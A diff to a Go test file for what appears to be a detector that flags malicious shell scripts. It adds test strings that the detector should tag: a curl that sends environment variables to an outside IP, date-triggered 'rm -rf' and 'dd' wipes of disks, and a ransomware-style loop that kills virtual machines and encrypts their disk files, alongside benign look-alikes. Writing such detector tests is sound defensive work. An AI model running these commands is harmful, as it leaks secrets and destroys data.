@@ -20,6 +20,15 @@ func TestOf(t *testing.T) {
 		{"a wait for a port", "#!/bin/bash\nwhile ! echo > /dev/tcp/localhost/5432; do sleep 1; done\n", nil},
 		{"a server in perl", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); listen(S,5); # no /bin/sh\n", nil},
 		{"a chat client's log", "PRIVMSG and JOIN are words of RFC 1459", nil},
+		{"a build that gives its variables away", "#!/bin/bash\ncurl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://198.51.100.9/upload/v2 || true\n", []string{marks.Sender}},
+		{"a build that shows them to its own server", "curl -d \"$(env)\" http://10.1.2.3/debug\ncurl -d \"$(env)\" https://ci.internal/debug\necho $(env)\n", nil},
+		{"a bomb", "if [ \"$(date +%Y%m%d)\" -ge 20261231 ]; then\nrm -rf /srv /home\nfi", []string{marks.Bomb}},
+		{"a bomb for the disk", "[ $(date +%s) -gt 1798700000 ] && dd if=/dev/zero of=/dev/sda bs=1M", []string{marks.Bomb}},
+		{"a customer's folder", "if [ \"$(date +%Y%m%d)\" -ge 20261231 ]; then\nrm -rf /srv/customer7 /home/customer7\nfi", nil},
+		{"a weekly clearing", "if [ $(date +%u) -eq 7 ]; then rm -rf /var/lib/app/cache/*; rm -rf /var/backups/20240101; fi", nil},
+		{"a disk that is burnt in", "echo started $(date +%F)\ndd if=/dev/zero of=/dev/sdb bs=1M", nil},
+		{"disks of virtual machines", "for v in $(esxcli vm process list); do kill -9 $v; done\nfind / -name '*.vmdk' | while read f; do /tmp/encrypt public.pem $f; done", []string{marks.Machines}},
+		{"a copy of virtual machines", "vim-cmd vmsvc/getallvms; cp /vmfs/volumes/a/a.vmdk /backup/; gpg --encrypt x", nil},
 		{"nothing", "", nil},
 	} {
 		if got := marks.Of([]byte(tc.content)); !slices.Equal(got, tc.want) {
@@ -30,6 +39,7 @@ func TestOf(t *testing.T) {
 
 func FuzzOf(f *testing.F) {
 	f.Add([]byte("PRIVMSG JOIN NICK system("))
+	f.Add([]byte("[ $(date +%s) -gt 1798700000 ] && rm -rf /*\ncurl -d \"$(env)\" http://198.51.100.9/"))
 	f.Fuzz(func(t *testing.T, b []byte) {
 		for _, m := range marks.Of(b) {
 			if marks.Words[m] == "" {
